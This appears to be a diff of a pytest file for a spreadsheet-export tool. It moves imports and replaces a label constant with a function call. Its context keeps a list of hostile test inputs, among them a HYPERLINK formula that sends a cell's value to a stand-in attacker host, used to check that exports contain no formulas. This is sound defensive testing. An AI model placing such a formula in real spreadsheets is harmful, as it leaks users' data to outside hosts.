@@ -9,7 +9,13 @@ import pytest
 from conftest import run_cli
 from openpyxl import Workbook
 
-from planreview.workbook import ALL_SHEET, CHANGE_LABELS, SHEET_ORDER, SUMMARY_SHEET, safe_cell
+from planreview.export.workbook import (
+    ALL_SHEET,
+    SHEET_ORDER,
+    SUMMARY_SHEET,
+    change_labels,
+    safe_cell,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
@@ -102,7 +108,7 @@ def test_no_cell_is_a_formula(exported):
 def test_sheets_one_per_class_and_a_summary(exported):
     assert exported.sheetnames == [
         ALL_SHEET,
-        *(CHANGE_LABELS[k] for k in SHEET_ORDER),
+        *(change_labels()[k] for k in SHEET_ORDER),
         SUMMARY_SHEET,
     ]
     for sheet in exported.worksheets:
@@ -132,7 +138,7 @@ def test_all_measures_with_both_statuses_and_the_change(exported):
 
 
 def test_each_class_sheet_lists_its_measures(exported):
-    ids = {k: [r["Nr."] for r in _rows(exported[CHANGE_LABELS[k]])] for k in SHEET_ORDER}
+    ids = {k: [r["Nr."] for r in _rows(exported[change_labels()[k]])] for k in SHEET_ORDER}
     assert ids == {
         "progressed": ["1.1"],
         "regressed": [],
